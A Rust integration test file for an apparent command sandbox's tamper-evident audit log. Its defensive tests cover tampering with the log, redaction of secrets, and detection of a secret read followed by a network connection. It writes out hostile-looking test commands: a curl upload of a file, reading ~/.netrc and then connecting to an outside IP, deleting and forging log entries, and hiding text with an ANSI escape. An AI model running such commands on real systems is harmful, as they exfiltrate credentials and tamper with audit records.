//! The audit log as people and programs use it, and a verifier in another language that must agree with ours.

use crate::support::{assert_nothing_left, both, only_trial, sh};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;
use testkit::World;

const SCHEMA: &str = include_str!("../crates/cli/schemas/audit.schema.json");

#[track_caller]
fn assert_fits(document: &Value) {
    let schema: Value = serde_json::from_str(SCHEMA).unwrap();
    assert_eq!(crate::check::misfit(document, &schema, &schema, ""), None, "{document:#}");
}

fn directory(world: &World) -> PathBuf {
    world.state().join("belljar/audit")
}

fn records(world: &World, filter: &[&str]) -> Vec<Value> {
    let log = world.belljar(["audit", "log", "--json"].iter().chain(filter).copied()).run();
    log.success().stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn rows(world: &World, question: &[&str]) -> Vec<Value> {
    let answer = world.belljar(["audit", "query"].iter().chain(question).copied().chain(["--json"])).run();
    answer.success();
    let document = answer.json();
    assert_fits(&document);
    document["rows"].as_array().unwrap().clone()
}

/// What `tests/audit/verify.py` says of a directory.
fn independent(dir: &Path, key: Option<&Path>) -> Value {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/audit/verify.py");
    let mut command = Command::new("python3");
    command.arg("-B").arg(script).arg(dir);
    if let Some(key) = key {
        command.arg("--key").arg(key);
    }
    let output = command.output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    serde_json::from_str(&text).unwrap_or_else(|_| panic!("{text}{}", String::from_utf8_lossy(&output.stderr)))
}

/// Ours and the other verifier say the same.
#[track_caller]
fn agree(world: &World, key: Option<&Path>, what: &str) -> bool {
    let mut args = vec!["audit".to_owned(), "verify".into(), "--json".into()];
    if let Some(key) = key {
        args.extend(["--key".to_owned(), key.display().to_string()]);
    }
    let ours = world.belljar(&args).run().json();
    assert_fits(&ours);
    let theirs = independent(&directory(world), key);
    assert_eq!(ours["sound"], theirs["sound"], "{what}: {ours:#} {theirs:#}");
    for field in ["head", "records", "checkpoints", "sealed", "torn", "broken"] {
        assert_eq!(ours["found"][field], theirs[field], "{what}, {field}: {ours:#} {theirs:#}");
    }
    ours["sound"].as_bool().unwrap()
}

both! {
    fn a_second_verifier_agrees_on_every_kind_of_tampering(world) {
        world.file("a", "old\n");
        sh(world, "discard", "echo before the key > a").run().success();
        let key = world.base().join("first-key");
        world.file(&key, world.belljar(["audit", "key"]).run().success().stdout.clone());
        for n in 0..3 {
            sh(world, "always", &format!("echo {n} > a")).run().success();
        }
        let log = directory(world).join("log.jsonl");
        let (whole, beside) = (world.read(&log).unwrap(), world.read(directory(world).join("key")).unwrap());
        assert!(agree(world, Some(&key), "as it is") && agree(world, None, "as it is, without the key"));
        let lines: Vec<&str> = whole.split_inclusive('\n').collect();
        let last = lines.len() - 1;
        let is_sealed = |line: &str| line.contains("\"epoch\":") && !line.contains("\"epoch\":null");
        let sealed: Vec<usize> = (0..=last).filter(|at| is_sealed(lines[*at])).collect();
        let edit = |at: usize, from: &str, to: &str| {
            let mut changed: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
            assert!(changed[at].contains(from), "{from} in {}", changed[at]);
            changed[at] = changed[at].replacen(from, to, 1);
            changed.concat()
        };
        let without = |at: usize| [&lines[..at], &lines[at + 1..]].concat().concat();
        let mut cases = vec![
            ("an edit", edit(0, "before the key", "behind the key")),
            ("a line gone", without(1)),
            ("a checkpoint gone", without(sealed[1])),
            ("the newest checkpoint gone", without(last)),
            ("a line twice", [&lines[..2], &lines[1..]].concat().concat()),
            ("the last line twice", format!("{whole}{}", lines[last])),
            ("two lines swapped", [&lines[..1], &[lines[2], lines[1]], &lines[3..]].concat().concat()),
            ("the end cut off", lines[..sealed[1]].concat()),
            ("the last line cut short", whole[..whole.len() - 20].to_owned()),
            ("a torn line in between", [&lines[..3], &["{\"prev\":\"\n"], &lines[3..]].concat().concat()),
            ("a foreign line", format!("{whole}hello\n")),
            ("an empty line", format!("{whole}\n")),
            ("zeros at the end", format!("{whole}{{\"pr\0\0")),
            ("another record behind", format!("{whole}{}", lines[0])),
            ("another time", edit(3, "\"time_ms\":1", "\"time_ms\":2")),
            ("another segment", edit(sealed[0], "\"segment\":0", "\"segment\":1")),
            ("another epoch", edit(sealed[1], "\"epoch\":1", "\"epoch\":7")),
            ("no epoch", edit(sealed[1], "\"epoch\":1", "\"epoch\":null")),
            ("nothing", String::new()),
        ];
        for at in [0, 7, 63] {
            let seal = lines[last].len() - 4 - at;
            let digit = if &lines[last][seal..=seal] == "0" { "1" } else { "0" };
            let newest = [&lines[last][..seal], digit, &lines[last][seal + 1..]].concat();
            cases.push(("another seal", [&lines[..last], &[newest.as_str()]].concat().concat()));
        }
        for (n, (what, text)) in cases.iter().enumerate() {
            world.file(&log, text);
            let sound = agree(world, Some(&key), what);
            if n % 5 == 0 {
                agree(world, None, what);
            }
            let torn_only = what.starts_with("the last line cut") || what.starts_with("zeros");
            assert!(!sound || torn_only || *what == "the newest checkpoint gone", "{what}");
        }
        world.file(&log, &whole);
        for (what, other) in [
            ("an earlier key", format!("{:020} {}\n", 0, world.read(&key).unwrap().trim())),
            ("another key", beside.replace(['1', '2', '3'], "4").replace("44444", "00000")),
            ("no key", "x".into()),
            ("a later key", beside.replacen("0000", "0009", 1)),
        ] {
            world.file(directory(world).join("key"), other);
            agree(world, Some(&key), what);
        }
        std::fs::remove_file(directory(world).join("key")).unwrap();
        assert!(!agree(world, Some(&key), "the key gone"));
        world.file(directory(world).join("key"), beside);
        assert!(agree(world, Some(&key), "as it was"));
    }

    /// The disk is waited for while the jar is being built; the command waits for both.
    fn nothing_runs_whose_record_is_not_on_the_disk(world) {
        world.file("refuse.c", "#include <errno.h>\nint fdatasync(int fd) { errno = EIO; return -1; }\n");
        let (source, library) = (world.workspace().join("refuse.c"), world.base().join("refuse.so"));
        let built = Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&source).status();
        assert!(built.unwrap().success());
        let run = |options: &[&str]| {
            world.belljar(["run", "--apply", "always"].iter().chain(options).chain(&["--", "sh", "-c", "echo RAN; echo > ran"]))
        };
        for options in [[].as_slice(), &["--jar", "one"], &["--backend", "kernel"]] {
            let refused = run(options).env("LD_PRELOAD", &library).run();
            refused.code(125);
            assert!(refused.stderr.contains("audit") && !refused.stdout.contains("RAN"), "{}", refused.report());
            assert!(!world.has("ran"));
            assert_nothing_left(world);
        }
        run(&[]).run().success();
        assert!(world.has("ran"));
    }

    fn a_command_can_neither_read_nor_write_the_log(world) {
        sh(world, "discard", "true").run().success();
        let before = world.read(directory(world).join("log.jsonl")).unwrap();
        let log = directory(world).join("log.jsonl").display().to_string();
        let state = world.state().join("belljar").display().to_string();
        let script = format!(
            "cat {log}; cat {log} 2>/dev/null | grep -q prev && echo REACHED; echo forged >> {log}; rm -rf {state}/audit; \
             mv {state} {state}.old; ln -s /etc {state}/x; ls {state}/audit; true"
        );
        let run = sh(world, "always", &script).run();
        assert!(!run.stdout.contains("REACHED") && !run.stdout.contains("prev"), "{}", run.report());
        let after = world.read(directory(world).join("log.jsonl")).unwrap();
        assert!(after.starts_with(&before) && !after.contains("\nforged"), "{after}");
        world.belljar(["audit", "verify"]).run().success();
    }

    fn questions_are_answered_and_records_are_chosen(world) {
        world.file("a", "old\n");
        sh(world, "always", "echo new > a; echo token=hunter2000 > b").run().success();
        let id = world.belljar(["trials", "--all", "--json"]).run().json()["trials"][0]["id"].as_str().unwrap().to_owned();
        sh(world, "never", "rm a").run().success();
        world.belljar(["run", "--", "sh", "-c", "curl -d @x https://example.org/up"]).run().stderr_lacks("panicked");
        let approvals = rows(world, &["approvals", "echo new"]);
        assert!(approvals.iter().any(|row| row["verb"] == "run" && row["by"] == "policy"), "{approvals:#?}");
        assert!(approvals.iter().any(|row| row["verb"] == "apply" && row["trial"] == id.as_str()), "{approvals:#?}");
        assert!(approvals.iter().all(|row| !row["saw"].as_array().unwrap().is_empty()), "{approvals:#?}");
        assert!(!rows(world, &["rules"]).is_empty());
        let policies = rows(world, &["policy"]);
        assert_eq!((policies.len(), policies[0]["decisions"].as_u64()), (1, Some(3)), "{policies:#?}");
        assert_eq!(policies[0]["sha256"].as_str().unwrap().len(), 64);
        assert_eq!(rows(world, &["policy", "--at", "2000-01-01"]), Vec::<Value>::new());
        for question in ["surprises", "secret-then-connect", "denials"] {
            rows(world, &[question]);
            world.belljar(["audit", "query", question]).run().success();
        }
        assert_eq!(records(world, &["--until", "2000-01-01"]), Vec::<Value>::new());
        let of_trial = records(world, &["--trial", &id]);
        assert!(of_trial.len() >= 4 && of_trial.iter().all(|record| record["trial"] == id.as_str()));
        let about = records(world, &["--path", "a"]);
        assert!(about.len() >= 3 && about.len() < records(world, &[]).len(), "{about:#?}");
        assert!(!records(world, &["--host", "example.org"]).is_empty());
        assert!(records(world, &["--decision", "allow"]).iter().all(|record| record["decision"]["verdict"] == "allow"));
        assert_fits(&world.belljar(["audit", "key", "--json"]).run().success().json());
        world.belljar(["audit", "key"]).run().code(125).stderr_has("there is one already");
        world.belljar(["audit", "log", "--since", "soon"]).run().code(2).stderr_has("is no time");
        let log = world.read(directory(world).join("log.jsonl")).unwrap();
        assert!(!log.contains("hunter2000") && log.contains("token=[redacted:value]"), "{log}");
        let events = world.belljar(["audit", "export", "--format", "ocsf"]).run();
        for line in events.success().stdout.lines() {
            let event: Value = serde_json::from_str(line).unwrap();
            assert_eq!(event["type_uid"].as_u64(), Some(event["class_uid"].as_u64().unwrap() * 100 + event["activity_id"].as_u64().unwrap()));
        }
        let parquet = world.belljar(["audit", "export", "--format", "parquet"]).run();
        if cfg!(feature = "parquet") {
            assert!(parquet.success().stdout.starts_with("PAR1"), "what it holds is a test of the engine");
        } else {
            parquet.code(125).stderr_has("without Parquet").stderr_has("--features parquet");
        }
        let lines = world.belljar(["audit", "export"]).run().success().stdout.lines().count();
        assert_eq!(lines, records(world, &[]).len());
    }

    fn surprises_and_denials_of_real_commands_are_found(world) {
        world.file("a", "old\n").script("build", "#!/bin/sh\necho x > quietly\n");
        // What the text says is no surprise; what a program does besides is one.
        sh(world, "discard", "echo new > a").run().success();
        world.belljar(["run", "--apply", "discard", "--", "./build"]).run().success();
        let surprises = rows(world, &["surprises"]);
        let quietly = world.workspace().join("quietly").display().to_string();
        assert_eq!(surprises.len(), 1, "{surprises:#?}");
        assert_eq!(surprises[0]["command"], "./build");
        assert_eq!(surprises[0]["surprises"].as_array().unwrap(), &[Value::from(format!("write {quietly}"))]);
        let text = world.belljar(["audit", "query", "surprises"]).run();
        text.success().stdout_has("./build").stdout_has(&format!("not predicted: write {quietly}"));

        world.file("rules.toml", "rules = '''\n@id(\"no-build\")\nforbid (principal, action == Action::\"execute\", resource)\n\
            when { resource has name && resource.name like \"*/build\" };\n'''\n");
        let denied = world.belljar(["run", "--profile", "./rules.toml", "--", "./build"]).run();
        denied.code(126);
        // A text that deceives its reader is for a person, and there is none.
        world.belljar(["run", "--", "sh", "-c", "ls harmless\u{1b}[8m"]).run().code(126);
        let denials = rows(world, &["denials"]);
        let of = |program: &str| denials.iter().find(|row| row["program"] == program).unwrap_or_else(|| panic!("{denials:#?}"));
        assert_eq!((of("./build")["denied"].as_u64(), of("./build")["not_approved"].as_u64()), (Some(1), Some(0)));
        assert!(of("./build")["rules"].to_string().contains("no-build"), "{denials:#?}");
        let unasked = of("sh");
        assert_eq!((unasked["denied"].as_u64(), unasked["not_approved"].as_u64()), (Some(0), Some(1)), "{unasked:#}");
        let text = world.belljar(["audit", "query", "denials"]).run();
        text.success().stdout_has("./build: 1 denial, 0 times without").stdout_has("sh: 0 denials, 1 time without");
    }

    fn a_secret_and_then_a_connection_is_found(world) {
        crate::network::prepare(world);
        let key = world.home().join(".netrc");
        world.file(&key, "no key\n").script("quiet", "#!/bin/sh\ntrue\n");
        world.script("send", "#!/usr/bin/python3\nimport socket, sys\n\
            s = socket.create_connection((sys.argv[1], 7000), timeout=20)\ns.sendall(b'x'); s.recv(1)\n");
        let run = |words: &[&str], command: &[&str]| {
            let words = ["run", "--apply", "discard"].iter().chain(words).chain(&["--"]).chain(command);
            world.belljar(words.copied()).as_root().under(crate::network::setup(world)).run()
        };
        let shown = key.display().to_string();
        let (show, allow) = (["--read", shown.as_str()], ["--read", shown.as_str(), "--allow-net", "web.test:7000"]);
        let reads = format!("cat {shown} > /dev/null; ./send web.test");
        run(&show, &["sh", "-c", &format!("cat {shown} > /dev/null")]).success();
        run(&["--allow-net", "web.test:7000"], &["./send", "web.test"]).success();
        run(&show, &["./quiet"]).success();
        assert_eq!(rows(world, &["secret-then-connect"]), Vec::<Value>::new(), "neither alone");
        // Announced and reached; shown to a program nobody knows; refused; and tried in vain.
        run(&allow, &["sh", "-c", &reads]).success();
        run(&allow, &["./send", "web.test"]).success();
        run(&show, &["sh", "-c", &format!("cat {shown} > /dev/null; ./send 20.20.20.20")]).code(1);
        run(&[], &["sh", "-c", &format!("cat {shown}; ./send 20.20.20.20")]).code(1);
        let found = rows(world, &["secret-then-connect"]);
        assert_eq!(found.len(), 4, "{found:#?}");
        assert!(found.iter().all(|row| row["secrets"].to_string().contains(&shown)), "{found:#?}");
        let peers = |field: &str| -> Vec<String> { found.iter().map(|row| row[field].to_string()).collect() };
        assert!(peers("reached")[..2].iter().all(|peer| peer.contains("web.test:7000")), "{found:#?}");
        assert!(peers("refused")[2..].iter().all(|peer| peer.contains("20.20.20.20")), "{found:#?}");
        let text = world.belljar(["audit", "query", "secret-then-connect"]).run();
        text.success().stdout_has(&format!("secret: {shown}")).stdout_has("reached: web.test:7000").stdout_has("refused: 20.20.20.20:7000");
    }

    fn what_a_command_line_held_is_for_its_owner_alone(world) {
        let token = ["ghp_", "R8vX2mQ7pL0sKd93TzYwB1nHcJ4uFgA65eMi"].concat();
        sh(world, "never", &format!("echo --token {token} > a; mysql --password hunter2000 db; true")).run().success();
        let id = only_trial(world);
        let dir = world.state().join("belljar/trials").join(&id);
        let mode = |path: &Path| std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(path).unwrap().permissions()) & 0o7777;
        assert_eq!((mode(&dir), mode(&dir.join("trial.json"))), (0o700, 0o600));
        for words in [&["trials"][..], &["trials", "--json"], &["show"], &["show", "--json"], &["diff", "--summary"], &["audit", "log", "--json"]] {
            let run = world.belljar(words).run();
            let all = format!("{}{}", run.success().stdout, run.stderr);
            assert!(!all.contains(&token) && !all.contains("hunter2000"), "{words:?}: {all}");
        }
    }

    fn an_apply_leaves_a_receipt_of_what_is_real(world) {
        world.file("a", "old\n");
        sh(world, "never", "echo new > a; ln -s a link; mkdir d; echo more > d/b").run().success();
        let id = only_trial(world);
        world.belljar(["audit", "receipt", &id]).run().code(125).stderr_has("no receipt");
        world.belljar(["apply", "a"]).run().success();
        let part = world.belljar(["audit", "receipt", &id]).run().success().json();
        assert_eq!(part["subject"].as_array().unwrap().len(), 1, "{part:#}");
        world.belljar(["apply", "--yes"]).run().success();
        let all = world.belljar(["audit", "receipt", &id[..4]]).run().success().json();
        let sum = |text: &str| {
            let output = world.command("sh").args(["-c", &format!("printf '{text}' | sha256sum")]).run();
            output.stdout[..64].to_owned()
        };
        assert_eq!((&part["_type"], &part["predicate"]["trial"]), (&"https://in-toto.io/Statement/v1".into(), &id.as_str().into()));
        let change = &part["predicate"]["changes"][0];
        assert_eq!((&change["before"]["sha256"], &change["after"]["sha256"]), (&sum("old\\n").into(), &sum("new\\n").into()));
        assert_eq!(part["subject"][0]["digest"]["sha256"], sum("new\\n"));
        let digests: Vec<&str> = all["subject"].as_array().unwrap().iter().filter_map(|one| one["digest"]["sha256"].as_str()).collect();
        assert!(digests.contains(&sum("more\\n").as_str()) && digests.contains(&sum("a").as_str()), "{all:#}");
        // The head that it names is one that the log had.
        let head = part["predicate"]["log"]["head"].as_str().unwrap();
        assert!(world.read(directory(world).join("log.jsonl")).unwrap().contains(head));
        let receipts = directory(world).join("receipts");
        for entry in std::fs::read_dir(&receipts).unwrap() {
            let path = entry.unwrap().path();
            let text = world.read(&path).unwrap();
            world.file(&path, text.replace("\"mode\":", "\"Mode\":"));
        }
        world.belljar(["audit", "receipt", &id]).run().code(125).stderr_has("is not the one");
    }
}
